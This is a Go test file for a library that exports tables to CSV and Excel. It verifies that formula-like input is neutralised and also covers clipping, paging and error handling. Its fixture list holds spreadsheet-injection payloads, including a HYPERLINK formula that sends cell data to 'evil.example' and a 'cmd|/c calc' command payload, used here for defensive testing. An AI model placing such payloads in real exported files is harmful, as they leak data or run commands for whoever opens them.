package tables

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/xuri/excelize/v2"
)

// hostile are what people type, and how a cell must hold it.
var hostile = [][2]string{
	{`=HYPERLINK("http://evil.example/?"&A1,"x")`, `'=HYPERLINK("http://evil.example/?"&A1,"x")`}, {"+1 876 555 0100", "'+1 876 555 0100"}, {"-2+3", "'-2+3"}, {"@SUM(1)", "'@SUM(1)"},
	{"\t=1", "'\t'=1"}, {"\r=1", "'\r=1"}, {"\n=1", "'\n=1"}, {"  =1", "'  =1"}, {"\u00A0=1", "'\u00A0=1"}, {"\u200B=1", "'\u200B=1"}, {"＝1", "'＝1"}, {"＠x", "'＠x"}, {"\tx", "'\tx"},
	{"Ann-Marie", "Ann-Marie"}, {"a=b", "a=b"}, {"O’Brien, \"Bob\"", "O’Brien, \"Bob\""}, {"", ""}, {" ", " "}, {"two\nlines", "two\nlines"}, {"Zoë 李", "Zoë 李"}, {"<b>&amp;</b>", "<b>&amp;</b>"},
	{"]]>", "]]>"}, {"Ann;=cmd|'/c calc'!A0;", "Ann;'=cmd|'/c calc'!A0;"}, {"a\t@SUM(1)", "a\t'@SUM(1)"}, {"a; b-c", "a; b-c"}, {"_x005F_x003D_1", "_x005F_x003D_1"}, {"_x0041_x0042_x0043_", "_x0041_x0042_x0043_"}, {"_x000D_", "_x000D_"}, {"_x003D_1", "_x003D_1"},
}

var noon = time.Date(2026, 11, 3, 17, 0, 0, 0, time.UTC)

func fill(t *testing.T, w Writer) {
	t.Helper()
	three, nobody := 3, (*int)(nil)
	rows := [][]any{}
	for _, h := range hostile {
		rows = append(rows, []any{h[0], 1, true, noon, &three, nobody})
	}
	if err := w.Table("People: [all]/*", Columns("name", "n", "yes", "at", "some", "none")); err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		if err := w.Row(row...); err != nil {
			t.Fatal(err)
		}
	}
}

func TestCellsOfCommasAreNoFormulas(t *testing.T) {
	var out bytes.Buffer
	w := NewCSV(&out)
	fill(t, w)
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	body, marked := strings.CutPrefix(out.String(), "\uFEFF")
	got, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || !marked || len(got) != len(hostile)+1 {
		t.Fatalf("%d rows, marked %t: %v", len(got), marked, err)
	}
	if !slices.Equal(got[0], []string{"name", "n", "yes", "at", "some", "none"}) {
		t.Errorf("the columns are %v", got[0])
	}
	for i, h := range hostile {
		if want := []string{h[1], "1", "true", "2026-11-03T17:00:00Z", "3", ""}; !slices.Equal(got[i+1], want) {
			t.Errorf("%q became %q", h[0], got[i+1])
		}
	}
}

// What we write is read by a program of other people.
func TestCellsOfAWorkbookAreNoFormulas(t *testing.T) {
	jamaica := time.FixedZone("EST", -5*3600)
	var out bytes.Buffer
	w := NewWorkbook(&out, jamaica)
	fill(t, w)
	if err := w.Table("people:  [ALL]", []Column{{"q", `A <title> & "more"`}}); err != nil {
		t.Fatal(err)
	}
	if err := w.Row(strings.Repeat("ü", 40_000)); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&out)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); !slices.Equal(got, []string{"People   all", "people    ALL"}) {
		t.Errorf("the sheets are %q", got)
	}
	sheet := f.GetSheetList()[0]
	for i, h := range hostile {
		at := func(column string) string { return fmt.Sprintf("%s%d", column, i+2) }
		if got, err := f.GetCellValue(sheet, at("A")); err != nil || got != h[1] {
			t.Errorf("%q became %q: %v", h[0], got, err)
		}
		if formula, err := f.GetCellFormula(sheet, at("A")); err != nil || formula != "" {
			t.Errorf("%q is the formula %q: %v", h[0], formula, err)
		}
	}
	for at, want := range map[string]string{"A1": "name", "B2": "1", "C2": "TRUE", "D2": "2026-11-03 12:00", "E2": "3", "F2": ""} {
		if got, err := f.GetCellValue(sheet, at); err != nil || got != want {
			t.Errorf("%s is %q, not %q: %v", at, got, want, err)
		}
	}
	second := f.GetSheetList()[1]
	if got, err := f.GetCellValue(second, "A1"); err != nil || got != `A <title> & "more"` {
		t.Errorf("the title is %q: %v", got, err)
	}
	if got, err := f.GetCellValue(second, "A2"); err != nil || len([]rune(got)) != cellText {
		t.Errorf("a long cell has %d characters: %v", len([]rune(got)), err)
	}
	for _, c := range []struct{ long, want string }{{strings.Repeat("x", cellText), strings.Repeat("x", cellText)}, {strings.Repeat("🌴", cellText/2) + "x", strings.Repeat("🌴", cellText/2) + "x"},
		{strings.Repeat("🌴", cellText/2+1), strings.Repeat("🌴", cellText/2) + "…"}, {strings.Repeat("é", cellText+1), strings.Repeat("é", cellText-1) + "…"}, {"x" + strings.Repeat("🌴", cellText), "x" + strings.Repeat("🌴", cellText/2-1) + "…"}} {
		if got := clip(c.long); got != c.want || len(utf16.Encode([]rune(got))) > cellText {
			t.Errorf("of %d runes %d are left", len([]rune(c.long)), len([]rune(got)))
		}
	}
	if p, err := f.GetPanes(sheet); err != nil || !p.Freeze || p.YSplit != 1 {
		t.Errorf("the titles do not stay in sight: %+v, %v", p, err)
	}
}

func TestAWorkbookWithoutATable(t *testing.T) {
	var out bytes.Buffer
	if err := NewWorkbook(&out, time.UTC).Close(); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&out)
	if err != nil || len(f.GetSheetList()) != 1 {
		t.Fatalf("%v", err)
	}
}

func TestColumnsHaveTheNamesOfSpreadsheets(t *testing.T) {
	for i, want := range map[int]string{0: "A", 25: "Z", 26: "AA", 51: "AZ", 52: "BA", 701: "ZZ", 702: "AAA"} {
		if got := column(i); got != want {
			t.Errorf("column %d is %s, not %s", i, got, want)
		}
	}
}

func TestWhatIsNoTable(t *testing.T) {
	for name, w := range map[string]Writer{"csv": NewCSV(io.Discard), "workbook": NewWorkbook(io.Discard, time.UTC)} {
		if w.Row("x") == nil {
			t.Errorf("%s: a row without a table", name)
		}
		if err := w.Table("t", Columns("a", "b")); err != nil {
			t.Fatal(err)
		}
		if w.Row("x") == nil || w.Row("x", struct{}{}) == nil {
			t.Errorf("%s: a row that does not fit", name)
		}
	}
	w := NewCSV(io.Discard)
	if err := w.Table("t", Columns("a")); err != nil {
		t.Fatal(err)
	}
	if w.Table("other", Columns("b")) == nil {
		t.Error("two tables in a file of CSV")
	}
}

// A large workbook goes out as it is written, and what does not fit into a sheet into another.
func TestAWorkbookTakesNoMemory(t *testing.T) {
	out := &broken{after: 1 << 60}
	w := NewWorkbook(out, time.UTC)
	w.(*workbook).most = 50_000
	if err := w.Table("t", Columns("a", "b")); err != nil {
		t.Fatal(err)
	}
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	for i := range 100_010 {
		if err := w.Row("somebody's name", i); err != nil {
			t.Fatal(err)
		}
	}
	runtime.GC()
	runtime.ReadMemStats(&after)
	if grown := int64(after.HeapAlloc) - int64(before.HeapAlloc); grown > 2<<20 {
		t.Errorf("%d bytes are held", grown)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if n := len(w.(*workbook).names); n != 3 || out.n < 400<<10 {
		t.Errorf("%d sheets, %d bytes", n, out.n)
	}
}

// Where what is written to breaks, writing ends.
func TestABrokenFile(t *testing.T) {
	for name, w := range map[string]Writer{"csv": NewCSV(&broken{after: 10_000}), "workbook": NewWorkbook(&broken{after: 10_000}, time.UTC)} {
		err := w.Table("t", Columns("a"))
		for i := 0; err == nil && i < 1_000_000; i++ {
			err = w.Row(fmt.Sprint("row ", i*7919))
		}
		if err == nil {
			err = w.Close()
		}
		if err == nil || !strings.Contains(err.Error(), "full") {
			t.Errorf("%s: %v", name, err)
		}
	}
}

type broken struct{ n, after int }

func (b *broken) Write(p []byte) (int, error) {
	if b.n += len(p); b.n > b.after {
		return 0, fmt.Errorf("the disk is full")
	}
	return len(p), nil
}

// A decimal is a number in both formats, also below zero; what is none is no cell.
func TestDecimalsAreNumbers(t *testing.T) {
	var text, book bytes.Buffer
	for _, w := range []Writer{NewCSV(&text), NewWorkbook(&book, time.UTC)} {
		if err := errors.Join(w.Table("Sums", Columns("sum")), w.Row(Decimal("-1234.50")), w.Row(Decimal("9007199254740.99"))); err != nil {
			t.Fatal(err)
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
	}
	for _, wrong := range []Decimal{"", "=1", "1e5", "1.2.3", "+1", "1\n2"} {
		for _, w := range []Writer{NewCSV(io.Discard), NewWorkbook(io.Discard, time.UTC)} {
			if err := errors.Join(w.Table("Sums", Columns("sum")), w.Row(wrong)); err == nil {
				t.Errorf("%q was written", wrong)
			}
		}
	}
	if !strings.Contains(text.String(), "\n-1234.50\r\n9007199254740.99") && !strings.Contains(text.String(), "\n-1234.50\n9007199254740.99") {
		t.Errorf("%q", text.String())
	}
	f, err := excelize.OpenReader(&book)
	if err != nil {
		t.Fatal(err)
	}
	kind, kerr := f.GetCellType("Sums", "A2")
	v, verr := f.GetCellValue("Sums", "A2")
	if err := errors.Join(kerr, verr); err != nil || v != "-1234.5" && v != "-1234.50" || kind == excelize.CellTypeInlineString {
		t.Errorf("%q, %v: %v", v, kind, err)
	}
}
